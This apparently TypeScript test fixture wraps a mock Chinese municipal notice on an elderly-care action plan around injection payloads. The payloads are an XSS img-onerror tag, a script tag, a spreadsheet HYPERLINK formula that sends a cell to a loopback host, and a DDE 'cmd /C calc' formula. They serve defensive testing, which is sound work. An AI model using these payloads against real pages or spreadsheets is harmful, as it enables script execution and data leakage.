/** What a picture element would run where a title became markup; a script that ran would write this into the page's window. */
export const RAN = 'zhengmaiRan';

/** Markup, quotes and formulas as parts of titles, measures, metrics and names: texts that a page must show and a table must carry, each as it is. */
export const MARKUP = `<img src=x onerror="window.${RAN}=1">`;
export const SCRIPT = `<script>window.${RAN}=2</script>`;
export const FORMULA = '=HYPERLINK("http://127.0.0.2/?"&A1,"点击")';

/** A 公文 of the usual form, made of hostile parts. */
export const HOSTILE = `青州市人民政府办公室关于印发青州市${MARKUP}养老服务“引号'与"双引号”行动方案(2024—2026年)的通知
青政办发〔2024〕8号

各镇人民政府、街道办事处,市政府各部门:
《青州市${MARKUP}养老服务“引号'与"双引号”行动方案(2024—2026年)》已经市政府同意,现印发给你们,请认真组织实施。

青州市人民政府办公室
2024年3月18日
(此件公开发布)

青州市${MARKUP}养老服务“引号'与"双引号”行动方案(2024—2026年)

为贯彻落实《国务院办公厅关于推进${SCRIPT}养老服务发展的意见》(国办发〔2019〕5号)和《${FORMULA}管理办法》,结合我市实际,制定本方案。
一、总体要求
坚持以人民为中心,健全养老服务体系。
二、重点任务
(一)${FORMULA}。到2026年,全市${MARKUP}护理型床位占比达到60%以上。(牵头单位:市民政局,配合单位:市财政局、市卫生健康局)
(二)+1+cmd|' /C calc'!A0。每年培训养老护理员不少于500人次。(责任单位:市人力资源社会保障局、市民政局)
(三)@SUM(1+1)*${SCRIPT}。到2025年,=1+1床位占比达到50%以上。(责任单位:市民政局)
三、保障措施
(一)强化${SCRIPT}组织领导。各镇(街道)要把养老服务纳入重要议事日程。(责任单位:市民政局)
`;
